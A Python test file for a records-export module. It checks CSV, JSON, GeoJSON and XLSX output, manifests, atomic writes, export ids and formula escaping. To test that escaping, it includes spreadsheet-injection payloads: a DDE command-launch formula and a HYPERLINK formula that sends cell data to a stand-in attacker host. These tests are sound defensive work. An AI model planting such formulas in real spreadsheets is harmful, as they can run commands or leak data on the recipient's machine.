"""Exports of published records (refuge.publish.exports): formats, manifest, escaping, ids."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import math
import re
import tempfile
from pathlib import Path
from typing import Any

import pytest
from exportkit import (
    GENERATED_AT,
    JILIN,
    NO_COORDINATES,
    csv_rows,
    incident,
    incident_from_json,
    incident_from_row,
    incident_lists,
    table,
    table_from_json,
    unescape,
    xlsx_records,
    xlsx_sheets,
)
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from refuge.errors import PublicationError
from refuge.publish import exports
from refuge.publish.exports import (
    SUPPRESSED_MARKER,
    ExportError,
    new_export_id,
    read_manifest,
    verify_export,
    write_export,
)
from refuge.publish.jsonform import incident_dict, table_dict
from refuge.publish.records import (
    PublishedCount,
    PublishedEvent,
    PublishedIncident,
    PublishedPlace,
    PublishedTable,
)
from refuge.publish.spreadsheet import (
    FORMULA_TRIGGERS,
    escape_cell,
    is_safe_text,
    unescape_cell,
    xlsx_text,
)
from refuge.publish.tabular import COLUMN_NAMES, INCIDENT_COLUMNS

DOCS = Path(__file__).resolve().parents[2] / "docs" / "publishing.md"
FORMATS = ("csv", "json", "geojson", "xlsx")
DANGEROUS = "=+-@\t\r"


def _write(tmp: Path, fmt: str, incidents: list[PublishedIncident], **kwargs: Any) -> Path:
    out = tmp / f"export.{fmt}"
    kwargs.setdefault("audience", "public")
    kwargs.setdefault("generated_at", GENERATED_AT)
    write_export(incidents, kwargs.pop("tables", [table()]), fmt=fmt, out=out, **kwargs)
    return out


def _read_back(fmt: str, out: Path) -> list[PublishedIncident]:
    if fmt == "csv":
        return [incident_from_row(row) for row in csv_rows(out)]
    if fmt == "xlsx":
        return [incident_from_row(row) for row in xlsx_records(out)]
    document = json.loads(out.read_text(encoding="utf-8"))
    if fmt == "json":
        return [incident_from_json(item) for item in document["incidents"]]
    # GeoJSON properties are plain values: nothing escaped.
    return [
        incident_from_row(feature["properties"], text=lambda value: value)
        for feature in document["features"]
    ]


def _xlsx_clean(record: PublishedIncident) -> PublishedIncident:
    """What XLSX can hold of ``record``: its text fields without XML-illegal characters."""

    def clean(text: str) -> str:
        return unescape_cell(xlsx_text(text))

    place = record.place
    if place is not None:
        place = dataclasses.replace(
            place,
            name=clean(place.name),
            name_ko=clean(place.name_ko),
            gazetteer_id=clean(place.gazetteer_id),
            admin1=clean(place.admin1),
        )
        if not place.name:
            place = None  # a name made only of illegal characters leaves no place
    return dataclasses.replace(
        record,
        public_id=clean(record.public_id),
        title=clean(record.title),
        summary=clean(record.summary),
        nationality=clean(record.nationality),
        place=place,
    )


def _close(a: Any, b: Any) -> bool:
    """Equal, floats within 16 significant digits (what Excel and openpyxl keep)."""
    if isinstance(a, float) or isinstance(b, float):
        return a is not None and b is not None and math.isclose(a, b, rel_tol=1e-15)
    if dataclasses.is_dataclass(a) and type(a) is type(b):
        return all(_close(getattr(a, f.name), getattr(b, f.name)) for f in dataclasses.fields(a))
    if isinstance(a, list | tuple) and isinstance(b, list | tuple):
        return len(a) == len(b) and all(_close(x, y) for x, y in zip(a, b, strict=True))
    return bool(a == b)


# --- each format round-trips the records ----------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_each_format_reads_back_as_the_records_it_was_given(tmp_path: Path, fmt: str) -> None:
    records = [
        incident(),
        incident("INC-0002", title="=cmd|' /C calc'!A0", place=NO_COORDINATES),
        incident("INC-0003", title="-5 people", place=None),
    ]
    out = _write(tmp_path, fmt, records)
    assert _read_back(fmt, out) == records


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(records=incident_lists())
@pytest.mark.parametrize("fmt", FORMATS)
def test_any_records_round_trip_through_every_format(
    fmt: str, records: list[PublishedIncident]
) -> None:
    with tempfile.TemporaryDirectory() as folder:
        out = _write(Path(folder), fmt, records)
        if fmt == "xlsx":
            # XLSX keeps 16 significant digits of a float, as Excel does.
            assert _close(_read_back(fmt, out), [_xlsx_clean(r) for r in records])
        else:
            assert _read_back(fmt, out) == records


def test_the_json_shapes_carry_every_field_of_the_records() -> None:
    # A field added to the records must reach the exports: fail here until it does.
    record = incident()
    shaped = incident_dict(record)
    assert set(shaped) == {f.name for f in dataclasses.fields(PublishedIncident)}
    assert set(shaped["place"]) == {f.name for f in dataclasses.fields(PublishedPlace)}
    assert set(shaped["events"][0]) == {f.name for f in dataclasses.fields(PublishedEvent)}
    assert set(shaped["total"]) == {f.name for f in dataclasses.fields(PublishedCount)} | {"label"}
    assert set(table_dict(table())) == {f.name for f in dataclasses.fields(PublishedTable)}


def test_the_json_export_carries_the_tables_with_suppressed_cells_as_null(tmp_path: Path) -> None:
    tables = [table("by_month"), table("by_province")]
    out = _write(tmp_path, "json", [incident()], tables=tables)
    document = json.loads(out.read_text(encoding="utf-8"))
    assert [table_from_json(t) for t in document["tables"]] == tables
    cell = document["tables"][0]["rows"][1]
    assert cell == {
        "categories": {"province": "Jilin", "month": "2024-05"},
        "count": None,
        "suppressed": True,
    }
    assert document["audience"] == "public"
    assert document["generated_at"] == GENERATED_AT.isoformat()


def test_the_xlsx_export_has_a_sheet_per_table_with_suppressed_cells_marked(
    tmp_path: Path,
) -> None:
    tables = [table("by_month"), table("by_province")]
    out = _write(tmp_path, "xlsx", [incident()], tables=tables)
    sheets = xlsx_sheets(out)
    assert list(sheets) == ["incidents", "by_month", "by_province", "about"]
    for published in tables:
        rows = sheets[published.name]
        assert rows[0] == [*published.dimensions, "count"]
        for (categories, count), row in zip(published.rows, rows[1:], strict=True):
            assert row == [*categories, SUPPRESSED_MARKER if count is None else count]
    # The marker is explained where people look for it.
    about = sheets["about"]
    assert any(row[0] == SUPPRESSED_MARKER and row[1] for row in about)


def test_xlsx_sheet_titles_stay_valid_and_distinct_for_awkward_table_names(
    tmp_path: Path,
) -> None:
    names = ["by/month:*?", "incidents", "x" * 40, "x" * 40 + "y"]
    out = _write(tmp_path, "xlsx", [], tables=[table(n) for n in names])
    titles = list(xlsx_sheets(out))
    assert len(set(t.casefold() for t in titles)) == len(titles) == len(names) + 2
    assert all(len(t) <= 31 and not re.search(r"[\[\]:*?/\\]", t) for t in titles)


def test_the_geojson_export_puts_longitude_first_and_null_geometry_without_coordinates(
    tmp_path: Path,
) -> None:
    west = dataclasses.replace(JILIN, lat=-33.45, lon=-70.66)
    records = [
        incident("INC-0001"),
        incident("INC-0002", place=NO_COORDINATES),
        incident("INC-0003", place=None),
        incident("INC-0004", place=west),
    ]
    out = _write(tmp_path, "geojson", records)
    document = json.loads(out.read_text(encoding="utf-8"))
    assert document["type"] == "FeatureCollection"
    features = {f["id"]: f for f in document["features"]}
    assert len(features) == 4
    assert features["INC-0001"]["geometry"] == {"type": "Point", "coordinates": [126.55, 43.17]}
    assert features["INC-0002"]["geometry"] is None
    assert features["INC-0003"]["geometry"] is None
    assert features["INC-0004"]["geometry"]["coordinates"] == [-70.66, -33.45]
    assert all(f["type"] == "Feature" for f in document["features"])


def test_the_csv_starts_with_a_byte_order_mark_and_keeps_korean(tmp_path: Path) -> None:
    out = _write(tmp_path, "csv", [incident()])
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert "지린성".encode() in raw
    assert raw.split(b"\r\n")[0].decode("utf-8-sig").split(",") == list(COLUMN_NAMES)


# --- manifest -----------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_manifest_describes_the_file_and_its_sha256_matches(tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"incidents.{fmt}"
    manifest = write_export(
        [incident(), incident("INC-0002")],
        [table("by_month"), table("by_sex"), table("by_province")],
        fmt=fmt,
        out=out,
        audience="partners",
        export_id="rx-0a1b2c",
        generated_at=GENERATED_AT,
    )
    written = json.loads((tmp_path / f"incidents.{fmt}.manifest.json").read_text("utf-8"))
    assert written["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest()
    assert written["bytes"] == out.stat().st_size
    assert written["file"] == out.name
    assert written["format"] == fmt
    assert written["audience"] == "partners"
    assert written["export_id"] == "rx-0a1b2c"
    assert written["generated_at"] == GENERATED_AT.isoformat()
    tables_in_file = 3 if fmt in ("json", "xlsx") else 0
    assert written["records"] == {"incidents": 2, "tables": tables_in_file}
    assert manifest.manifest_path == tmp_path / f"incidents.{fmt}.manifest.json"
    assert read_manifest(out) == manifest
    assert verify_export(out) == manifest


def test_a_changed_export_no_longer_matches_its_manifest(tmp_path: Path) -> None:
    out = _write(tmp_path, "csv", [incident()])
    out.write_bytes(out.read_bytes().replace(b"Sixty", b"Fifty"))
    with pytest.raises(ExportError, match=r"\[R157\].*does not match"):
        verify_export(out)


def test_a_missing_manifest_is_a_coded_error(tmp_path: Path) -> None:
    out = _write(tmp_path, "json", [incident()])
    (tmp_path / "export.json.manifest.json").unlink()
    with pytest.raises(ExportError, match=r"\[R157\]"):
        read_manifest(out)


# --- atomic writing -----------------------------------------------------------------------


def test_a_failing_export_leaves_no_partial_file_and_keeps_the_previous_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = _write(tmp_path, "csv", [incident()])
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}

    def half_written(path: Path, *args: Any) -> None:
        path.write_text("public_id,title\nINC-0001,Six", encoding="utf-8")
        raise RuntimeError("disk pulled out")

    monkeypatch.setitem(exports._WRITERS, "csv", half_written)
    with pytest.raises(RuntimeError):
        _write(tmp_path, "csv", [incident(), incident("INC-0002")])
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before
    assert verify_export(out).incidents == 1


def test_a_failing_first_export_leaves_nothing_at_all(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(path: Path, *args: Any) -> None:
        path.write_bytes(b"PK\x03\x04partial")
        raise OSError(28, "No space left on device")

    monkeypatch.setitem(exports._WRITERS, "xlsx", refuse)
    with pytest.raises(ExportError, match=r"\[R157\].*No space left"):
        _write(tmp_path, "xlsx", [incident()])
    assert list(tmp_path.iterdir()) == []


def test_an_export_into_a_missing_folder_or_onto_a_folder_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match=r"\[R157\].*does not exist"):
        write_export(
            [],
            [],
            fmt="csv",
            out=tmp_path / "nope" / "x.csv",
            audience="public",
            generated_at=GENERATED_AT,
        )
    with pytest.raises(ExportError, match=r"\[R157\].*folder"):
        write_export([], [], fmt="csv", out=tmp_path, audience="public", generated_at=GENERATED_AT)


# --- formula escaping ---------------------------------------------------------------------


@given(st.text())
def test_escaping_is_safe_and_reversible_for_any_text(text: str) -> None:
    escaped = escape_cell(text)
    assert is_safe_text(escaped)
    assert unescape_cell(escaped) == text
    assert escaped == text or escaped == "'" + text


def _text_cells(fmt: str, out: Path) -> list[tuple[str, str]]:
    """(column, raw text as a spreadsheet would see it) for every text cell of the file."""
    kinds = {c.name: c.kind for c in INCIDENT_COLUMNS} | {"export_id": "text"}
    rows = csv_rows(out) if fmt == "csv" else xlsx_records(out)
    return [
        (name, value)
        for row in rows
        for name, value in row.items()
        if kinds[name] == "text" and isinstance(value, str)
    ]


@settings(max_examples=60, deadline=None)
@given(
    title=st.text(),
    summary=st.text(alphabet=st.sampled_from([*DANGEROUS, "'", "a", "１", "\uff1d", " "])),
    nationality=st.sampled_from(["=1+1", "+82", "-KP", "@SUM(A1)", "\tKP", "\rKP", "'KP", "KP"]),
)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_written_cell_starts_with_a_dangerous_character(
    fmt: str, title: str, summary: str, nationality: str
) -> None:
    place = dataclasses.replace(JILIN, name=f"-{title}", admin1=f"={summary}")
    record = dataclasses.replace(
        incident(place=place), title=title, summary=summary, nationality=nationality
    )
    with tempfile.TemporaryDirectory() as folder:
        out = _write(Path(folder), fmt, [record])
        cells = _text_cells(fmt, out)
        # Every text cell is safe, and each field reads back as it was, or escaped: one
        # apostrophe in front of exactly what was written.
        assert all(is_safe_text(value) for _, value in cells)
        assert not any(value[:1] in FORMULA_TRIGGERS for _, value in cells)
        by_column = dict(cells)
        written = _xlsx_clean(record) if fmt == "xlsx" else record
        for column, original in [
            ("title", written.title),
            ("summary", written.summary),
            ("nationality", written.nationality),
        ]:
            raw = by_column.get(column, "")
            assert raw == original or raw == "'" + original
            assert unescape(raw) == original


def test_negative_numbers_stay_numbers_and_text_that_looks_negative_is_escaped(
    tmp_path: Path,
) -> None:
    west = dataclasses.replace(JILIN, lat=-33.45, lon=-70.66)
    record = incident(title="-70.66", place=west)
    csv_out = _write(tmp_path, "csv", [record])
    row = csv_rows(csv_out)[0]
    assert row["place_lon"] == "-70.66" and row["place_lat"] == "-33.45"
    assert row["title"] == "'-70.66"

    xlsx_out = _write(tmp_path, "xlsx", [record])
    sheet = load_workbook(xlsx_out)["incidents"]
    header = [cell.value for cell in sheet[1]]
    lon = sheet.cell(row=2, column=header.index("place_lon") + 1)
    title = sheet.cell(row=2, column=header.index("title") + 1)
    assert lon.value == -70.66 and lon.data_type == "n"
    assert title.value == "'-70.66" and title.data_type == "s"


def test_every_xlsx_text_cell_is_stored_as_a_string_never_a_formula(tmp_path: Path) -> None:
    record = incident(title='=HYPERLINK("http://evil.example/?"&A1,"click")')
    out = _write(tmp_path, "xlsx", [record])
    book = load_workbook(out)
    types = {
        cell.data_type for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
    }
    assert "f" not in types
    assert types <= {"s", "inlineStr", "n"}  # inlineStr: how openpyxl reads an empty text


# --- export ids and audiences -------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_partner_export_without_an_export_id_is_refused(tmp_path: Path, fmt: str) -> None:
    for missing in (None, ""):
        with pytest.raises(ExportError, match=r"\[R157\].*export id"):
            _write(tmp_path, fmt, [incident()], audience="partners", export_id=missing)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("bad", ["a", "has space", "-leading", "=1+1", "x" * 81, "ré-01"])
def test_a_malformed_export_id_is_refused(tmp_path: Path, bad: str) -> None:
    with pytest.raises(ExportError, match=r"\[R157\]"):
        _write(tmp_path, "csv", [incident()], audience="partners", export_id=bad)


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_partner_export_carries_its_export_id_in_the_file_and_the_manifest(
    tmp_path: Path, fmt: str
) -> None:
    export_id = new_export_id()
    records = [incident(audience="partners"), incident("INC-0002")]
    out = _write(tmp_path, fmt, records, audience="partners", export_id=export_id)
    assert read_manifest(out).export_id == export_id
    if fmt == "csv":
        assert [row["export_id"] for row in csv_rows(out)] == [export_id] * 2
    elif fmt == "xlsx":
        assert [row["export_id"] for row in xlsx_records(out)] == [export_id] * 2
        assert ["export_id", export_id] == xlsx_sheets(out)["about"][2][:2]
    else:
        document = json.loads(out.read_text(encoding="utf-8"))
        meta = document["refuge"] if fmt == "geojson" else document
        assert meta["export_id"] == export_id
        if fmt == "geojson":
            ids = [f["properties"]["export_id"] for f in document["features"]]
            assert ids == [export_id] * 2


def test_export_ids_differ_from_one_export_to_the_next() -> None:
    ids = {new_export_id() for _ in range(50)}
    assert len(ids) == 50
    assert all(exports.EXPORT_ID_PATTERN.fullmatch(i) for i in ids)


def test_a_public_export_refuses_a_record_generalised_for_partners(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match=r"\[R157\].*generalised for partners"):
        _write(tmp_path, "json", [incident(), incident("INC-0002", audience="partners")])
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"fmt": "pdf"}, "unknown export format"),
        ({"audience": "press"}, "unknown audience"),
        ({"generated_at": GENERATED_AT.replace(tzinfo=None)}, "time zone"),
    ],
)
def test_unknown_formats_audiences_and_naive_times_are_refused(
    tmp_path: Path, kwargs: dict[str, Any], message: str
) -> None:
    arguments: dict[str, Any] = {
        "fmt": "csv",
        "out": tmp_path / "x",
        "audience": "public",
        "generated_at": GENERATED_AT,
    } | kwargs
    with pytest.raises(ExportError, match=message) as caught:
        write_export([incident()], [], **arguments)
    assert isinstance(caught.value, PublicationError)
    assert caught.value.code == "R157"


def test_duplicate_records_and_malformed_tables_are_refused(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="twice"):
        _write(tmp_path, "csv", [incident(), incident()])
    bad = dataclasses.replace(table(), rows=((("Jilin",), 3),))
    with pytest.raises(ExportError, match="categories"):
        _write(tmp_path, "json", [incident()], tables=[bad])
    swapped: PublishedPlace = dataclasses.replace(JILIN, lat=126.55, lon=43.17)
    with pytest.raises(ExportError, match="latitude"):
        _write(tmp_path, "geojson", [incident(place=swapped)])


# --- documentation ------------------------------------------------------------------------


def test_every_column_and_the_suppression_marker_are_documented() -> None:
    text = DOCS.read_text(encoding="utf-8")
    section = text[text.index("## Exports") :]
    for name in COLUMN_NAMES:
        assert f"`{name}`" in section, name
    assert f"`{SUPPRESSED_MARKER}`" in section
    for code in ("R157", "R158", "R159"):
        assert code in section
